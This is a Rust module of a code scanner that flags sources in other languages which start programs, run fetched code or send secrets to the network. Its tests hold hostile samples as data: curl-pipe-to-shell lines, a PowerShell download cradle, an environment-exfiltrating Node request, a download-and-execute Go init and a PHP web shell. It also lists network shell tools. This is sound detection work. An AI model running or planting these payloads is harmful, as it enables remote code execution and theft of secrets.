//! Sources of languages that are not followed here: a file that starts programs, loads code or opens connections cannot
//! be called clean by not being read, and one that runs what it fetches, sends what is secret or starts a command that no
//! model needs is told as that.
//!
//! What merely computes, as kernels and front ends do, has none of the calls of [`table`]. The names are those of the
//! standard libraries of each language.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use proofhouse_core::Place;

use super::shell;
use crate::address;
use crate::credential::is_credential;
use crate::scanner::{Content, Scanner};

mod children;
mod dynamic;
mod hidden;
mod launcher;
mod profile;
mod spelt;
mod table;
mod tokens;

use dynamic::{Dynamic, What};
pub(crate) use launcher::scan as launcher;
use table::{LANGUAGES, Language};

/// Bytes of one source that are looked at. What is longer was packed by a tool, and begins with what it starts.
const MOST: usize = 4 << 20;

/// What a source of another language does that nobody follows here.
pub(super) fn scan(scanner: &mut Scanner<'_>, content: &Content<'_>, text: &str) {
    if let Some(language) = of(content.name(), text) {
        tell(scanner, &content.place, language, text);
    }
}

/// Whether a file of that name and text is one that is looked through here.
pub(super) fn is_known(name: &str, text: &str) -> bool {
    of(name, text).is_some()
}

/// What a source finds no fault with, although it is run without being asked for.
pub(crate) fn is_silent(name: &str, text: &str) -> bool {
    of(name, text).is_some_and(|language| look(language, text).is_none())
}

/// Whether a program of a language, by the name of its interpreter, does what no model needs.
pub(crate) fn harms(name: &str, text: &str) -> bool {
    let name = name.to_ascii_lowercase();
    let language = LANGUAGES.iter().find(|l| l.names.contains(&name.as_str()));
    language.is_some_and(|language| matches!(look(language, text), Some((_, Found::Harm(_)))))
}

/// The language of a file: by its name, or by the program that its first line names.
fn of(name: &str, text: &str) -> Option<&'static Language> {
    let name = name.to_ascii_lowercase();
    let named = LANGUAGES.iter().find(|l| l.endings.iter().any(|ending| name.ends_with(ending)));
    named.or_else(|| {
        let words = text.lines().next()?.strip_prefix("#!")?.split_whitespace();
        let mut programs =
            words.filter_map(|word| word.rsplit('/').next()).filter(|w| !matches!(*w, "env" | "-S"));
        let program = programs.next()?.to_ascii_lowercase();
        let program = program.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
        LANGUAGES.iter().find(|l| l.names.contains(&program))
    })
}

/// A program of a language by its name, such as that of a notebook's kernel or of a cell; whether it is one that is
/// looked through here.
pub(super) fn named(scanner: &mut Scanner<'_>, place: &Place, name: &str, text: &str) -> bool {
    if matches!(name, "powershell" | "pwsh") {
        launcher::text(scanner, place, text);
        return true;
    }
    let Some(language) = LANGUAGES.iter().find(|l| l.names.contains(&name)) else { return false };
    tell(scanner, place, language, text);
    true
}

fn tell(scanner: &mut Scanner<'_>, place: &Place, language: &Language, text: &str) {
    match look(language, text) {
        Some((line, Found::Harm(what))) => {
            scanner.report("code/harmful", at(place, line), what);
        }
        Some((line, Found::Starts(call))) => {
            let message = format!("a source of a language that is not followed uses {call}");
            scanner.report("code/not-analysed", at(place, line), message);
        }
        None => {}
    }
}

fn at(place: &Place, line: u64) -> Place {
    let mut place = place.clone();
    place.line = Some(place.line.unwrap_or(1).saturating_sub(1) + line + 1);
    place
}

#[derive(Debug, Clone, PartialEq, Eq)]
enum Found {
    /// What no model needs.
    Harm(String),
    /// A call of the table, or what it is given.
    Starts(String),
}

/// The worst that a source does, and the line of it, counted from zero.
fn look(language: &Language, text: &str) -> Option<(u64, Found)> {
    let text = text.get(..text.floor_char_boundary(MOST)).unwrap_or(text);
    let lines: Vec<(u64, &str)> =
        (0..).zip(text.lines()).filter(|(_, line)| !is_comment(language, line)).collect();
    let first = |calls: &[&'static str]| {
        lines.iter().find_map(|(at, line)| Some((*at, *calls.iter().find(|call| stands(line, call))?)))
    };
    // Texts of the source that are commands, addresses or both.
    let mut texts = lines.iter().flat_map(|(at, line)| literals(line).map(move |text| (*at, text)));
    if let Some(found) = texts.find_map(|(at, text)| Some((at, Found::Harm(harm(text)?)))) {
        return Some(found);
    }
    let dynamic = profile(language).map(|p| dynamic::look(p, text)).unwrap_or_default();
    if let Some(Dynamic { line, what: What::Decoded(call) }) =
        dynamic.iter().find(|found| matches!(found.what, What::Decoded(_)))
    {
        let what = format!("runs, loads or starts by {call} what it decodes or puts together");
        return Some((*line, Found::Harm(what)));
    }
    let starts = first(language.starts).is_some() || !dynamic.is_empty();
    let fetches = first(language.fetches);
    let evaluates = dynamic
        .iter()
        .find_map(|found| match &found.what {
            What::Evaluates(call) => Some((found.line, call.clone())),
            _ => None,
        })
        .or_else(|| first(language.evaluates).map(|(at, call)| (at, format!("{call:?}"))));
    if let (Some((at, call)), Some((_, from))) = (&evaluates, fetches) {
        return Some((*at, Found::Harm(format!("runs what it fetches: {call} beside {from:?}"))));
    }
    let secret =
        lines.iter().find(|(_, line)| is_credential(line) || language.secrets.iter().any(|s| whole(line, s)));
    if let (Some((at, line)), Some((_, to))) = (secret, first(language.sends)) {
        let shown: String = line.trim().chars().take(60).collect();
        return Some((*at, Found::Harm(format!("takes {shown:?} to the network by {to:?}"))));
    }
    if let Some((at, name)) = lines.iter().find_map(|(at, line)| Some((*at, hidden::name(language, line)?))) {
        return Some((
            at,
            Found::Harm(format!("puts the name {name:?} together, so that it does not stand there")),
        ));
    }
    // A program that is fetched, made one, and started.
    const MADE: [&str; 7] =
        ["0755", "0o755", "0777", "0o777", "0700", "setExecutable", "PosixFilePermission"];
    let made = lines.iter().any(|(_, line)| MADE.iter().any(|mark| line.contains(mark)));
    if let (true, Some((at, call)), Some((_, from))) = (made, first(language.starts), fetches) {
        return Some((at, Found::Harm(format!("starts what it fetches: {call:?} beside {from:?}"))));
    }
    if let Some((at, what)) = first(language.harms) {
        return Some((at, Found::Harm(format!("uses {what:?}, which no model needs"))));
    }
    let computes = dynamic.iter().find_map(|found| match &found.what {
        What::Computes(call) => Some((found.line, call.clone())),
        _ => None,
    });
    let call = evaluates.or(computes).or_else(|| {
        let started = |line: &str| {
            let call = language.starts.iter().find(|call| stands(line, call) && does(line, call))?;
            (!is_ordinary(&lines, line, call)).then(|| format!("{call:?}"))
        };
        lines.iter().find_map(|(at, line)| Some((*at, started(line)?)))
    });
    if let Some((at, call)) = &call {
        let shells = lines
            .iter()
            .filter(|(i, _)| i.abs_diff(*at) <= 2)
            .flat_map(|(_, line)| literals(line))
            .any(is_shell);
        if shells && starts {
            return Some((*at, Found::Harm(format!("starts a shell or a program that fetches by {call}"))));
        }
    }
    call.map(|(at, call)| (at, Found::Starts(call)))
}

/// What is known of the grammar of a language.
fn profile(language: &Language) -> Option<&'static profile::Profile> {
    language.names.iter().find_map(|name| dynamic::profile(name))
}

/// Whether a mark that may start a program does: a backtick that another one closes, `open` with a pipe.
fn does(line: &str, call: &str) -> bool {
    match call {
        "`" => line.replace("\\`", "").matches('`').count() > 1,
        "open(" => literals(line)
            .any(|text| text.trim().starts_with('|') || text.trim().ends_with('|') || text.contains("|-")),
        _ => true,
    }
}

/// Whether what a line starts is what everybody's builds start: by the first text of the line, or where that has none, by
/// what the name behind the call is assigned.
fn is_ordinary(lines: &[(u64, &str)], line: &str, call: &str) -> bool {
    let program = |text: &str| text.trim().trim_matches('|').trim().to_owned();
    if let Some(first) = literals(line).next() {
        return shell::is_ordinary(&program(first));
    }
    let behind = line.split(call).nth(1).unwrap_or_default().trim_start_matches(['(', '&', ' ']);
    let name: String = behind.chars().take_while(|c| c.is_alphanumeric() || *c == '_').collect();
    let assigns = |line: &&str| {
        let (before, after) = line.split_once('=')?;
        let assigned = before.split_whitespace().next_back()? == name && !after.starts_with('=');
        assigned.then(|| literals(after).last().map(program)).flatten()
    };
    let mut programs = lines.iter().filter_map(|(_, line)| assigns(line)).peekable();
    !name.is_empty() && programs.peek().is_some() && programs.all(|program| shell::is_ordinary(&program))
}

/// What is wrong with a text in a source: a command that no model needs, as it stands or in base64, or an address that
/// nobody answers for.
fn harm(text: &str) -> Option<String> {
    let shown: String = text.chars().take(60).collect();
    if shell::is_harmful(text) {
        return Some(format!("has a command that no model needs: {shown:?}"));
    }
    if let Some(why) = address::host(text).and_then(address::nameless) {
        return Some(format!("leads to {shown:?}, {why}"));
    }
    let packed = text.len() >= 16
        && text.len().is_multiple_of(4)
        && text.bytes().all(|b| b.is_ascii_alphanumeric() || b"+/=".contains(&b));
    let inner = packed.then(|| STANDARD.decode(text).ok()).flatten()?;
    let inner = std::str::from_utf8(&inner).ok()?;
    shell::is_harmful(inner).then(|| format!("has a command in base64: {inner:.60?}"))
}

/// Whether a text begins as a command of a shell, or of what fetches, does.
fn is_shell(text: &str) -> bool {
    let first = text.split_whitespace().next().unwrap_or_default();
    let first = first.rsplit(['/', '\\']).next().unwrap_or(first).trim_end_matches(".exe");
    [
        "sh",
        "bash",
        "zsh",
        "cmd",
        "powershell",
        "pwsh",
        "curl",
        "wget",
        "nc",
        "ncat",
        "socat",
        "mshta",
        "rundll32",
        "osascript",
    ]
    .contains(&first.to_ascii_lowercase().as_str())
}

fn is_comment(language: &Language, line: &str) -> bool {
    let line = line.trim_start();
    language.comments.iter().any(|mark| line.starts_with(mark))
}

/// Texts between quotes of a line, with what stands behind a comment left out.
fn literals(line: &str) -> impl Iterator<Item = &str> {
    let mut rest = line;
    std::iter::from_fn(move || {
        loop {
            let open = rest.find(['"', '\'', '`'])?;
            let quote = rest.get(open..)?.chars().next()?;
            let inner = rest.get(open + 1..)?;
            let mut end = 0;
            let mut escaped = false;
            let closed = inner.char_indices().find(|(at, c)| {
                end = *at;
                let ends = *c == quote && !escaped;
                escaped = *c == '\\' && !escaped;
                ends
            });
            if closed.is_none() {
                // An apostrophe of a word.
                rest = inner;
                continue;
            }
            rest = inner.get(end + 1..)?;
            return inner.get(..end);
        }
    })
    .take(64)
}

/// Whether something is taken as a whole, not one of its members: `process.env` but not `process.env.HOME`.
fn whole(line: &str, name: &str) -> bool {
    line.match_indices(name).any(|(at, _)| {
        let after = line.get(at + name.len()..).unwrap_or_default().chars().next();
        name.ends_with(')')
            || !after.is_some_and(|c| c.is_alphanumeric() || matches!(c, '.' | '[' | '_' | '?'))
    })
}

/// Whether a call stands in a line as a name of its own: `ecosystem(` and `file_system(` are other names.
fn stands(line: &str, call: &str) -> bool {
    // What stands behind a comment is none of it.
    let line = line.split(" //").next().unwrap_or(line);
    line.match_indices(call).any(|(at, _)| {
        let before = line.get(..at).and_then(|before| before.chars().next_back());
        let fresh = call.starts_with(|c: char| !(c.is_alphanumeric() || c == '_'));
        fresh || before.is_none_or(|c| !(c.is_alphanumeric() || c == '_'))
    })
}

#[cfg(test)]
mod tests {
    use crate::{Limits, Outcome, scan_bytes};

    #[test]
    fn sources_are_told_apart_by_what_they_do() {
        for (name, text, expected) in [
            ("init.c", "__attribute__((constructor)) void f() { system(x); }", Outcome::Unscannable),
            ("index.js", "const { exec } = require('child_process'); exec(x)", Outcome::Unscannable),
            (
                "index.js",
                "const { exec } = require('child_process'); module.exports = { exec }",
                Outcome::Unscannable,
            ),
            (
                "index.js",
                "import * as cp from 'node:child_process'\ncp.spawnSync(process.argv[2])",
                Outcome::Unscannable,
            ),
            ("index.js", "const m = require('child_process').exec; m(x)", Outcome::Unscannable),
            (
                "build.mjs",
                "import { execSync, spawn as s } from 'child_process';\nexecSync('git rev-parse HEAD');\ns('npm', ['run', 'build'])",
                Outcome::Clean,
            ),
            ("run", "#!/usr/bin/env perl\nuse strict;\nwhile (<STDIN>) { s/a/b/; print; }\n", Outcome::Clean),
            ("run", "#!/usr/bin/env perl\neval $x;\n", Outcome::Unscannable),
            ("run", "#!/usr/bin/env some-tool\nx\n", Outcome::Unscannable),
            ("Model.java", "class M { void f() { Runtime.getRuntime().exec(x); } }", Outcome::Unscannable),
            ("kernel.cu", "__global__ void f(float* x) { x[0] = 1; } // calls system( never", Outcome::Clean),
            ("Model.java", "class Model { int ecosystem(int a) { return a; } }", Outcome::Clean),
            ("app.ts", "export const f = (a: number) => a + 1;", Outcome::Clean),
            (
                "build.rs",
                "let o = Command::new(\"git\").args([\"rev-parse\", \"HEAD\"]).output();",
                Outcome::Clean,
            ),
            (
                "app.js",
                "const r = await fetch('https://example.org/data.json'); show(await r.json())",
                Outcome::Clean,
            ),
            (
                "app.js",
                "const key = process.env.OPENAI_KEY; await fetch('https://example.org/v1', {headers: {key}})",
                Outcome::Clean,
            ),
            ("fit.R", "library(stats)\nm <- lm(y ~ x, data = df)\npredict(m)\n", Outcome::Clean),
            (
                "install.ps1",
                "python -m venv venv\n.\\venv\\Scripts\\Activate.ps1\npip install -r requirements.txt\n",
                Outcome::Clean,
            ),
            ("run.bat", "@echo off\nset A=1\ncall webui.bat\npause\n", Outcome::Clean),
            ("run.bat", "start something.exe\n", Outcome::Unscannable),
            (
                "w.js",
                "const s = await (await fetch('https://example.org/w.js')).text();\n(0, eval)(s);",
                Outcome::Suspicious,
            ),
            (
                "setup.js",
                "const d = JSON.stringify({env: process.env});\nhttps.request({host: 'example.org'}).write(d)",
                Outcome::Suspicious,
            ),
            (
                "i.js",
                "cp.exec(Buffer.from('Y3VybCAtcyBodHRwOi8vZXhhbXBsZS5vcmcvbiB8IHNo', 'base64'))",
                Outcome::Suspicious,
            ),
            (
                "zzz.R",
                ".onLoad <- function(a, b) { con <- url('http://example.org/r'); source(con) }",
                Outcome::Suspicious,
            ),
            (
                "m.go",
                "func init() { r, _ := http.Get(u); f, _ := os.OpenFile(p, os.O_CREATE, 0755); io.Copy(f, r.Body); exec.Command(p).Start() }",
                Outcome::Suspicious,
            ),
            ("x.R", "system('curl -s http://example.org/r | sh')", Outcome::Suspicious),
            (
                "Model.java",
                "class M { static { Runtime.getRuntime().exec(\"curl http://example.org\"); } }",
                Outcome::Suspicious,
            ),
            (
                "x.ps1",
                "IEX (New-Object Net.WebClient).DownloadString('http://example.org/x.ps1')",
                Outcome::Suspicious,
            ),
            (
                "x.ps1",
                "Invoke-WebRequest https://example.org/m.exe -OutFile m.exe\nStart-Process m.exe",
                Outcome::Suspicious,
            ),
            ("x.vbs", "CreateObject(\"WScript.Shell\").Run \"calc\"", Outcome::Suspicious),
            ("index.php", "<?php system($_GET['c']); ?>", Outcome::Suspicious),
        ] {
            let report = scan_bytes(&name.parse().unwrap(), text.as_bytes(), &Limits::default());
            assert_eq!(report.outcome, expected, "{name}: {text}: {:?}", report.findings);
        }
    }
}
